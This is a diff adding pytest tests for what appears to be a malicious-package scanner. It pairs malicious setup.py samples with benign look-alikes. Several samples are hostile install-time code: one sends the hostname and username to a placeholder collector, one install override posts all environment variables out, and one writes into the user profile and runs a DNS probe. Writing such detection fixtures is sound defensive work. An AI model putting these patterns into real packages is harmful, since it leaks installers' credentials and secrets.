@@ -1,0 +1,117 @@
+"""Install-time rules: a malicious setup.py and a benign look-alike per rule."""
+
+from __future__ import annotations
+
+from rulekit import ids, package, py, run, text
+
+from pipvet.analysis.context import FileKind
+from pipvet.analysis.rules.install import RULES
+from pipvet.models import Severity, Stage
+
+
+def _setup(source: str) -> list:  # type: ignore[type-arg]
+    return run(RULES, py(source, path="demo-1.0/setup.py", stage=Stage.INSTALL))
+
+
+def test_setup_phoning_home_with_host_facts_is_critical() -> None:
+    findings = _setup(
+        "import socket, getpass, requests\n"
+        "from setuptools import setup\n"
+        "data = {'h': socket.gethostname(), 'u': getpass.getuser()}\n"
+        "requests.get('http://collector.invalid/x', params=data)\n"
+        "setup(name='demo')\n"
+    )
+    assert ids(findings) == {"PV-INS-001"}
+    assert max(f.severity.rank for f in findings) == Severity.CRITICAL.rank
+    assert all(f.stage is Stage.INSTALL for f in findings)
+
+
+def test_setup_network_inside_a_helper_it_calls_is_seen() -> None:
+    findings = _setup(
+        "import urllib.request\nfrom setuptools import setup\n"
+        "def fetch():\n    urllib.request.urlopen('http://x.invalid/a')\n"
+        "fetch()\nsetup(name='demo')\n"
+    )
+    assert "PV-INS-001" in ids(findings)
+
+
+def test_benign_setup_reading_version_and_calling_git_is_quiet() -> None:
+    findings = _setup(
+        "import subprocess, re\nfrom setuptools import setup, find_packages\n"
+        "version = re.search(r'\\d+', open('demo/__init__.py').read()).group(0)\n"
+        "rev = subprocess.check_output(['git', 'rev-parse', 'HEAD'])\n"
+        "def helper():\n    import urllib.request\n    return urllib.request.urlopen('http://x')\n"
+        "setup(name='demo', version=version, packages=find_packages())\n"
+    )
+    assert findings == []
+
+
+def test_install_command_override_that_phones_home() -> None:
+    findings = _setup(
+        "from setuptools import setup\nfrom setuptools.command.install import install\n"
+        "import requests, os\n"
+        "class PostInstall(install):\n"
+        "    def run(self):\n"
+        "        install.run(self)\n"
+        "        requests.post('http://x.invalid', data=dict(os.environ))\n"
+        "setup(name='demo', cmdclass={'install': PostInstall})\n"
+    )
+    assert ids(findings) == {"PV-INS-002"}
+    assert findings[0].severity is Severity.CRITICAL
+
+
+def test_build_ext_override_running_cmake_is_quiet() -> None:
+    findings = _setup(
+        "import subprocess\nfrom setuptools import setup\n"
+        "from setuptools.command.build_ext import build_ext\n"
+        "class CMakeBuild(build_ext):\n"
+        "    def run(self):\n"
+        "        subprocess.check_call(['cmake', '--build', '.'])\n"
+        "        super().run()\n"
+        "setup(name='demo', cmdclass={'build_ext': CMakeBuild})\n"
+    )
+    assert findings == []
+
+
+def test_command_class_outside_install_files_is_not_judged() -> None:
+    # setuptools' own command classes live in ordinary modules, not in the setup script.
+    source = (
+        "import subprocess\nfrom distutils.command import install as orig\n"
+        "class install(orig.install):\n    def run(self):\n        subprocess.call(['sh', '-c', 'x'])\n"
+    )
+    assert run(RULES, py(source, path="setuptools/command/install.py", stage=Stage.RUNTIME)) == []
+
+
+def test_in_tree_backend_is_noted_and_plain_backend_is_not() -> None:
+    toml = '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["_build"]\n'
+    file = text(toml, path="demo-1.0/pyproject.toml", kind=FileKind.TEXT, stage=Stage.INSTALL)
+    findings = run(RULES, file, package())
+    assert ids(findings) == {"PV-INS-003"}
+    assert findings[0].severity is Severity.LOW
+    plain = text(
+        '[build-system]\nbuild-backend = "setuptools.build_meta"\n',
+        path="demo-1.0/pyproject.toml",
+        kind=FileKind.TEXT,
+        stage=Stage.INSTALL,
+    )
+    assert run(RULES, plain) == []
+
+
+def test_setup_writing_into_the_user_profile_and_running_network_tools() -> None:
+    findings = _setup(
+        "import os, subprocess\nfrom setuptools import setup\n"
+        "p = os.getenv('APPDATA') + '\\\\Extension\\\\background.js'\n"
+        "with open(p, 'w') as fh:\n    fh.write('x')\n"
+        "subprocess.getoutput('dig @1.1.1.1 probe.example.invalid')\n"
+        "setup(name='demo')\n"
+    )
+    severities = {f.message.split(" (")[0]: f.severity for f in findings}
+    assert ids(findings) == {"PV-INS-001"}
+    assert len(findings) == 2
+    assert set(severities.values()) == {Severity.HIGH}
+
+
+def test_setup_writing_its_own_version_file_is_quiet() -> None:
+    assert (
+        _setup("from setuptools import setup\nopen('acme/_version.py', 'w').write('v = 1')\nsetup()\n") == []
+    )
